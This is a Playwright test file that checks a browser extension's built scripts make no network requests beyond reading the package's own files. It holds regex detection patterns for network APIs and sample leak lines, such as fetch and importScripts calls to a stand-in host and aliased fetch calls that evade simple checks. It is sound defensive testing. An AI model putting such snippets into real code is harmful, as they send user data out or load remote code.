import { existsSync, globSync, readFileSync } from "node:fs";
import { join, resolve } from "node:path";
import { expect, test } from "@playwright/test";

/** A fetch of a file inside the package: the whole argument is one runtime.getURL of a literal. */
const OWN_FILE = /\bfetch\((?:[\w$]+\.)*runtime\.getURL\((["'`])[^"'`$]*\1\)\)/g;

/** Everything else by which a script reaches the network or loads code; reading it as a value counts too. */
const TO_THE_NETWORK =
  /\bfetch\b(?!\s*:)|XMLHttpRequest|WebSocket|EventSource|WebTransport|RTCPeerConnection|sendBeacon|importScripts|\bimport\s*\(\s*(?!["'`]\.)/g;

/** What in a built script could ask the network, with what stands around it. */
function networkCallsIn(script: string): string[] {
  const rest = script.replaceAll(OWN_FILE, "");
  return [...rest.matchAll(TO_THE_NETWORK)].map(({ index }) =>
    rest.slice(Math.max(0, index - 60), index + 60),
  );
}

for (const build of ["chrome-mv3", "firefox-mv3"]) {
  test(`no script of ${build} asks for anything but the package's own files`, () => {
    const folder = resolve(".output", build);
    test.skip(!existsSync(folder), `${build} is not built.`);
    const scripts = globSync("**/*.js", { cwd: folder });
    expect(scripts).toEqual(expect.arrayContaining(["background.js", "gate.js", "reading.js"]));
    for (const name of scripts) {
      expect(networkCallsIn(readFileSync(join(folder, name), "utf8")), name).toEqual([]);
    }
  });
}

test("the check sees a request however it is written, and lets the package's own files pass", () => {
  const own = "await fetch(c.default.runtime.getURL(`/pack/syria.hwp`))";
  expect(networkCallsIn(own)).toEqual([]);
  const leaks = [
    "fetch(`https://leak.example/`)",
    "fetch(c.default.runtime.getURL(`/x`)+`@leak.example`)",
    "const f=globalThis.fetch;f(e.href)",
    "window[`fetch`](e)",
    "new XMLHttpRequest",
    "navigator.sendBeacon(e,t)",
    "importScripts(`https://leak.example/a.js`)",
    "new WebSocket(e)",
    "import(e)",
  ];
  for (const leak of leaks) expect(networkCallsIn(`${own};${leak}`), leak).toHaveLength(1);
});
